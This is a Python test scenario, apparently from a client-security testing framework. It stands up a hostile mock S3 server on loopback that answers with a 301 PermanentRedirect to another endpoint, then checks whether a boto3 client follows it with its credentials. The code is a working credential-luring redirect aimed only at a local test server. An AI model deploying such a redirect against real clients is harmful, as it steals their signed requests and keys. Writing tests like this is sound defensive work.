"""C11: an object store redirects to another endpoint, and the client goes there with its login."""

from backwatch.attack.authority import Authority
from backwatch.attack.protocols.http import Leading, Request, answered
from backwatch.attack.protocols.server import LOOPBACK, HostileServer
from backwatch.attack.scenarios import SECRET, Scenario


class _Moving(Leading):
    def answer(self, request: Request) -> bytes:
        if not self.hostile:
            return answered(b"two apples", headers=(b'ETag: "1"',))
        target = b"%s:%d" % (LOOPBACK.encode(), self.elsewhere.port)
        document = (
            b"<Error><Code>PermanentRedirect</Code><Message>Address it there.</Message><Bucket>shop</Bucket><Endpoint>"
            + target + b"</Endpoint></Error>"
        )  # fmt: skip
        headers = (b"x-amz-bucket-region: us-west-2", b"Location: https://" + target + request.path)
        return answered(document, status=b"301 Moved Permanently", headers=headers)


class S3RegionRedirect(Scenario):
    """On boto3, which resolves the new region's endpoint itself. If the app sets the endpoint, it stays there."""

    code = "C11"
    attack = "says that the bucket is to be asked for at another endpoint"
    reference = "https://docs.aws.amazon.com/AmazonS3/latest/userguide/Redirects.html; ATT&CK T1557"
    driver = "boto3"
    notices = "an exception"
    rule = "redirected"

    @classmethod
    def service(cls, authority: Authority) -> HostileServer:
        """Return a server that leads its clients elsewhere."""
        return _Moving(authority)

    def work(self) -> None:
        """Fetch an object."""
        self.meet()

    def meet(self) -> object:
        """Repeat the work once the server is hostile."""
        import boto3
        from botocore.config import Config

        client = boto3.client(
            "s3", endpoint_url=f"https://localhost:{self.config.port}", verify=self.config.ca_file,
            region_name="eu-central-1", aws_access_key_id="AKIAEXAMPLE", aws_secret_access_key=SECRET,
            config=Config(connect_timeout=5, read_timeout=5, retries={"total_max_attempts": 2},
                          s3={"addressing_style": "path"}),
        )  # fmt: skip
        return client.get_object(Bucket="shop", Key="baskets/7")["Body"].read().decode()

    @classmethod
    def succeeded(cls, service: HostileServer, got: object) -> bool:
        """Return whether the other endpoint received a request."""
        del got
        assert isinstance(service, _Moving)
        return bool(service.elsewhere.kept)
